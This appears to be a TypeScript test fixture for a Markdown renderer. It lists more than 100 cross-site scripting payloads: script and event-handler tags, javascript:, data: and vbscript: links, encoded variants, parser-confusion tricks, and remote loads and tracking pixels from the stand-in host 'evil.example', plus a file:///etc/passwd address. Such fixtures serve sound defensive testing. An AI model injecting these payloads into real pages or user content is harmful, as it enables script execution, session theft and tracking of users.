/**
 * Texts that try to run a script or to call another host when Markdown is shown. `SCRIPT` sets a mark on the window; the
 * hosts do not exist.
 */
const SCRIPT = 'window.__ran=1'
const HOST = 'evil.example'

/** Handlers of elements that load, fail or begin by themselves. */
const ELEMENTS = [
  `<script>${SCRIPT}</script>`,
  `<script src="//${HOST}/x.js"></script>`,
  `<SCRIPT/SRC=//${HOST}/x.js></SCRIPT>`,
  `<scr<script>ipt>${SCRIPT}</scr</script>ipt>`,
  `<img src=x onerror=${SCRIPT}>`,
  `<img src=x onerror="${SCRIPT}"//`,
  `<IMG """><script>${SCRIPT}</script>">`,
  `<img/src="x"/onerror=${SCRIPT}>`,
  `<img src=\`x\` onerror=${SCRIPT}>`,
  `<img srcset="x 1x" onerror=${SCRIPT}>`,
  `<svg onload=${SCRIPT}>`,
  `<svg><script>${SCRIPT}</script></svg>`,
  `<svg><animate onbegin=${SCRIPT} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${SCRIPT}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${SCRIPT}>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${SCRIPT}</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${SCRIPT}>`,
  `<math href="javascript:${SCRIPT}">x</math>`,
  `<iframe src="javascript:parent.${SCRIPT}"></iframe>`,
  `<iframe srcdoc="<script>parent.${SCRIPT}</script>"></iframe>`,
  `<object data="javascript:${SCRIPT}"></object>`,
  `<embed src="javascript:${SCRIPT}">`,
  `<video src=x onerror=${SCRIPT}></video>`,
  `<video><source onerror=${SCRIPT}></video>`,
  `<audio src=x onerror=${SCRIPT}></audio>`,
  `<body onload=${SCRIPT}>`,
  `<body onpageshow=${SCRIPT}>`,
  `<input autofocus onfocus=${SCRIPT}>`,
  `<textarea autofocus onfocus=${SCRIPT}></textarea>`,
  `<select autofocus onfocus=${SCRIPT}></select>`,
  `<button autofocus onfocus=${SCRIPT}>x</button>`,
  `<details open ontoggle=${SCRIPT}>x</details>`,
  `<marquee onstart=${SCRIPT}>x</marquee>`,
  `<div style="animation:x" onanimationstart=${SCRIPT}>x</div><style>@keyframes x{}</style>`,
  `<style>@import "//${HOST}/x.css";</style>`,
  `<link rel=stylesheet href="//${HOST}/x.css">`,
  `<link rel=prefetch href="https://${HOST}/x">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${SCRIPT}">`,
  `<meta http-equiv="refresh" content="0;url=https://${HOST}/">`,
  `<base href="https://${HOST}/">`,
  `<form action="javascript:${SCRIPT}"><input type=submit></form>`,
  `<isindex type=image src=x onerror=${SCRIPT}>`,
  `<template><script>${SCRIPT}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
  `<title><img src=x onerror=${SCRIPT}></title>`,
  `<xmp><img src=x onerror=${SCRIPT}></xmp>`,
  `<!--><img src=x onerror=${SCRIPT}>-->`,
  `<![CDATA[><img src=x onerror=${SCRIPT}>]]>`,
  `<?php echo 1 ?><img src=x onerror=${SCRIPT}>`,
  `<x onclick=${SCRIPT} tabindex=1 id=x autofocus onfocus=${SCRIPT}>x</x>`,
  `<table background="javascript:${SCRIPT}"><td>x</table>`,
  `<img src="x" style="background:url(https://${HOST}/x)">`,
  `<p id="root">x</p><a name="location" href="//${HOST}">x</a>`,
]

/** Addresses that would run when they are followed, in each place where Markdown has one. */
const ADDRESSES = [
  `javascript:${SCRIPT}`,
  `JaVaScRiPt:${SCRIPT}`,
  ` javascript:${SCRIPT}`,
  `java\tscript:${SCRIPT}`,
  `java&#10;script:${SCRIPT}`,
  `&#106;avascript:${SCRIPT}`,
  `&#x6A;avascript&colon;${SCRIPT}`,
  `javascript&colon;${SCRIPT}`,
  `&#1;javascript:${SCRIPT}`,
  `javascript://x%0a${SCRIPT}`,
  `vbscript:${SCRIPT}`,
  `data:text/html,<script>${SCRIPT}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload="${SCRIPT}"/>`,
  `blob:https://${HOST}/x`,
  `file:///etc/passwd`,
  `feed:javascript:${SCRIPT}`,
  `view-source:javascript:${SCRIPT}`,
]
const linked = ADDRESSES.flatMap((address) => [`[x](<${address}>)`, `![x](<${address}>)`])

/** Where Markdown and HTML meet. */
const MIXED = [
  `[x]: javascript:${SCRIPT}\n\n[x]`,
  `<javascript:${SCRIPT}>`,
  `[x](javascript:${SCRIPT} "title")`,
  `![x](https://${HOST}/pixel.png)`,
  `![x](//${HOST}/pixel.png)`,
  `![x][y]\n\n[y]: https://${HOST}/pixel.png`,
  `[![x](https://${HOST}/pixel.png)](javascript:${SCRIPT})`,
  `![x" onerror="${SCRIPT}](x)`,
  `[x](/a" onclick="${SCRIPT})`,
  `\`\`\`html" onclick="${SCRIPT}\n<script>${SCRIPT}</script>\n\`\`\``,
  `\`<script>${SCRIPT}</script>\``,
  `    <script>${SCRIPT}</script>`,
  `# <img src=x onerror=${SCRIPT}>`,
  `- <img src=x onerror=${SCRIPT}>`,
  `> <img src=x onerror=${SCRIPT}>`,
  `|a|\n|-|\n|<img src=x onerror=${SCRIPT}>|`,
  `**<img src=x onerror=${SCRIPT}>**`,
  `[<img src=x onerror=${SCRIPT}>](/a)`,
  `<a href="javascript:${SCRIPT}">[x](/a)</a>`,
  `&lt;script&gt;${SCRIPT}&lt;/script&gt;`,
]

/** More than 100 texts. */
export const SCRIPT_ATTACKS: readonly string[] = [...ELEMENTS, ...linked, ...MIXED]
